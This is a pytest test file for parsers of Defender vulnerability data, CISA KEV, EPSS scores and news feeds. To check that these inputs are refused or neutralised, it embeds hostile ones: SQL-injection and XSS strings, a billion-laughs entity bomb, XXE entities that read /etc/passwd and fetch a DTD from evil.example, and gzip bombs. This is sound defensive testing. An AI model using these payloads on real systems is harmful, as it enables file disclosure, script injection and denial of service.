"""What public lists, news and Defender's documents say, and what hostile ones may not do."""

from __future__ import annotations

import gzip
import json
from datetime import UTC, date, datetime
from typing import Any

import pytest

from clients.errors import BadPayload
from posture.news_documents import Product, named_in, product_of, read_news
from posture.plain import plain
from posture.threat_documents import (
    LARGEST_CSV,
    epss_day,
    read_epss,
    read_kev,
    unpack,
)
from posture.weakness_documents import Weak, read_product, read_weakness
from tests import payloads

NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
URL = "https://news.example/feeds/all.xml"
BOM = b"\xef\xbb\xbf"
"""Many servers put it before UTF-8."""


def weakness(**changes: Any) -> dict[str, Any]:
    return {**payloads.load("microsoft/mde-vulnerability"), **changes}


def test_microsofts_example() -> None:
    assert read_weakness(weakness()) == Weak(
        "CVE-2019-0608", 2, 4.3, 4, 0, date(2019, 10, 8)
    )  # fmt: skip


@pytest.mark.parametrize(
    "changes",
    [{"id": "x"}, {"id": None}, {"id": "CVE-2019-0608 OR 1=1"}, {"exposedMachines": None},
     {"exposedMachines": True}, {"exposedMachines": -1}, {"exposedMachines": "4"}],
)  # fmt: skip
def test_what_is_no_weakness(changes: dict[str, Any]) -> None:
    assert read_weakness(weakness(**changes)) is None
    assert read_weakness([]) is None


def test_what_is_odd_is_left_out() -> None:
    odd = weakness(
        severity="Terrible", cvssV3=11, publishedOn="soon", exploitInKit=True, publicExploit="yes"
    )
    assert read_weakness(odd) == Weak("CVE-2019-0608", 0, None, 4, 3, None)


def test_a_devices_row_tells_the_product_alone() -> None:
    row = {"cveId": "cve-2020-1472", "machineId": "m1", "productVendor": "Microsoft",
           "productName": "windows_server_2019"}  # fmt: skip
    assert read_product(row) == ("CVE-2020-1472", "microsoft/windows_server_2019")
    assert read_product({**row, "productName": "<b>anna@contoso.com</b>"}) is None
    assert read_product("x") is None


def test_cisas_example() -> None:
    raw = json.dumps(payloads.load("cisa-kev")).encode()
    found = read_kev(raw)
    assert read_kev(BOM + raw) == found
    first = found.entries[0]
    assert (first.cve, first.vendor, first.product) == ("CVE-2025-48384", "Git", "Git")
    assert (first.added_on, first.due_on) == (date(2025, 8, 25), date(2025, 9, 15))
    assert [one.by_ransomware for one in found.entries] == [False, True]
    assert (found.as_of, found.unread) == ("2025.08.25", 0)


@pytest.mark.parametrize(
    "raw", [b"", b"{", b"[]", b"<html>", b'{"vulnerabilities": 1}', b'{"vulnerabilities": [1]}']
)
def test_no_catalogue(raw: bytes) -> None:
    with pytest.raises(BadPayload):
        read_kev(raw)


CSV = b"""#model_version:v2025.03.14,score_date:2026-11-20T12:55:00Z
cve,epss,percentile
CVE-2020-1472,0.94432,0.99974
CVE-1,0.5,0.5
CVE-2021-44228,nan,0.5
CVE-2021-44228,2,0.5
CVE-2021-44228,0.94358,0.99953
"""


@pytest.mark.parametrize(
    "raw", [CSV, gzip.compress(CSV), gzip.compress(CSV[:50]) + gzip.compress(CSV[50:])]
)
def test_first_of_epss(raw: bytes) -> None:
    text = unpack(raw)
    assert epss_day(text) == "2026-11-20"
    assert [row[0] for row in read_epss(text)] == ["CVE-2020-1472", "CVE-2021-44228"]


def test_a_bomb_and_a_broken_file_are_refused() -> None:
    with pytest.raises(BadPayload, match="too large"):
        unpack(gzip.compress(b"0" * (LARGEST_CSV + 2), compresslevel=1))
    with pytest.raises(BadPayload):
        unpack(gzip.compress(CSV)[:-9])
    with pytest.raises(BadPayload, match="too large"):
        unpack(gzip.compress(b"0" * (LARGEST_CSV // 2 + 1), compresslevel=1) * 2)
    with pytest.raises(BadPayload, match="too early"):
        unpack(gzip.compress(CSV) + gzip.compress(CSV)[:-9])
    with pytest.raises(BadPayload):
        unpack(b"\x1f\x8bnonsense")


RSS = """<rss version="2.0"><channel><title>News</title><link>https://news.example/</link>
<item><title>Fix &lt;b&gt;now&lt;/b&gt;: cve-2024-21412&lt;script&gt;alert(1)&lt;/script&gt;</title>
<link>/a?b=1</link><guid>1</guid><pubDate>Thu, 19 Nov 2026 10:00:00 +0100</pubDate>
<description><![CDATA[<p onclick="x()">Also CVE-2024-21413.</p><img src=http://track/>]]></description>
</item>
<item><title>Later</title><link>javascript:alert(1)</link>
<pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item>
<item><description></description></item></channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><entry><id>urn:1</id>
<title type="html">&lt;i&gt;Patch&lt;/i&gt; it</title><link href="b.html"/>
<updated>2026-11-19T09:00:00Z</updated>
</entry></feed>"""
JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "items": [
        {"id": "1", "title": "Patch it", "url": "/c", "date_published": "2026-11-19T09:00:00Z"},
        {"id": 2, "content_text": "No title, but a text"},
        "nonsense",
    ],
}


def test_rss() -> None:
    first, later = read_news(RSS.encode(), URL, "text/xml", NOW)
    assert first.title == "Fix now : cve-2024-21412"
    assert first.url == "https://news.example/a?b=1"
    assert first.summary == "Also CVE-2024-21413."
    assert first.cves == ("CVE-2024-21412", "CVE-2024-21413")
    assert first.published_at == datetime(2026, 11, 19, 9, tzinfo=UTC)
    assert (later.url, later.published_at) == ("", NOW)


def test_atom_and_json() -> None:
    (atom,) = read_news(ATOM.encode(), URL, "application/atom+xml", NOW)
    assert (atom.title, atom.url) == ("Patch it", "https://news.example/feeds/b.html")
    raw = json.dumps(JSON).encode()
    first, second = read_news(raw, URL, "application/feed+json", NOW)
    assert read_news(BOM + raw, URL, "application/feed+json", NOW) == [first, second]
    assert (first.title, first.url) == ("Patch it", "https://news.example/c")
    assert (second.title, second.published_at) == ("No title, but a text", NOW)


@pytest.mark.parametrize(
    "raw", [b"", b"<html><body>Sign in</body></html>", b"{}", b"{", b"\x00\xff"]
)
def test_no_feed(raw: bytes) -> None:
    with pytest.raises(BadPayload):
        read_news(raw, URL, "text/html", NOW)


@pytest.mark.parametrize("title", ["&#" + "9" * 5000 + ";", "&#99999999999;", "&#55296;"])
def test_letters_that_are_none(title: str) -> None:
    head = '<rss version="2.0"><channel><item><title>A '
    with pytest.raises(BadPayload):
        read_news(f"{head}{title}".encode(), URL, "text/xml", NOW)


def test_a_time_beyond_all_times_is_now() -> None:
    row = {"id": "1", "title": "A", "date_published": "9999-12-31T23:59:59-23:00"}
    (item,) = read_news(json.dumps({**JSON, "items": [row]}).encode(), URL, "application/json", NOW)
    assert item.published_at == NOW


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "head",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE rss [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
    ],
)
def test_entities_are_not_expanded(head: str) -> None:
    items = '<rss version="2.0"><channel><item><title>A &l9;</title></item></channel></rss>'
    text = f'<?xml version="1.0"?>{head}{items}'
    (found,) = read_news(text.encode(), URL, "text/xml", NOW)
    assert len(found.title) < 20
    assert "root" not in found.title


@pytest.mark.parametrize(
    "text",
    ["<" * 4000, "&" * 4000, "<a " * 6000, "<!--" * 4000, "<![CDATA[" * 4000, "&#x" * 4000,
     "<script>" * 4000, "<![x", "&#" + "9" * 5000 + ";"],
)  # fmt: skip
@pytest.mark.timeout(10)
def test_plain_text_of_nonsense_is_short(text: str) -> None:
    assert len(plain(text, 300)) <= 300


def test_plain_text() -> None:
    assert plain("a\u202eb\u200bc \x00 d\n e", 20) == "a b c d e"
    assert plain("&amp;lt;b&amp;gt;bold", 20) == "bold"
    assert plain("<style>x{}</style>text<!-- <b>no</b> -->", 20) == "text"
    assert plain("1 < 2 &#62; 1", 20) == "1 < 2 > 1"
    assert plain("long text", 6) == "long…"
    assert plain(None, 5) == plain(7, 5) == ""


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Hole in SharePoint Server closed", ["sharepoint server"]),
        ("Sharepointless", []),
        ("Microsoft Teams has a hole", ["teams"]),
        ("Two teams compete", []),
        ("A hole in PHP", ["php"]),
        ("Windows 10 ends; Windows 11 does not", ["windows 10"]),
    ],
)
def test_which_products_a_text_is_about(text: str, found: list[str]) -> None:
    keys = ("microsoft/sharepoint_server", "microsoft/teams", "php/php", "microsoft/windows_10")
    products = [one for key in keys if (one := product_of(key)) is not None]
    assert named_in(text, products) == found


def test_a_product_without_a_name() -> None:
    assert product_of("vendor/") is None
    assert product_of("a/b_server") is None
    assert product_of("x/php") == Product("php", "x", "php")
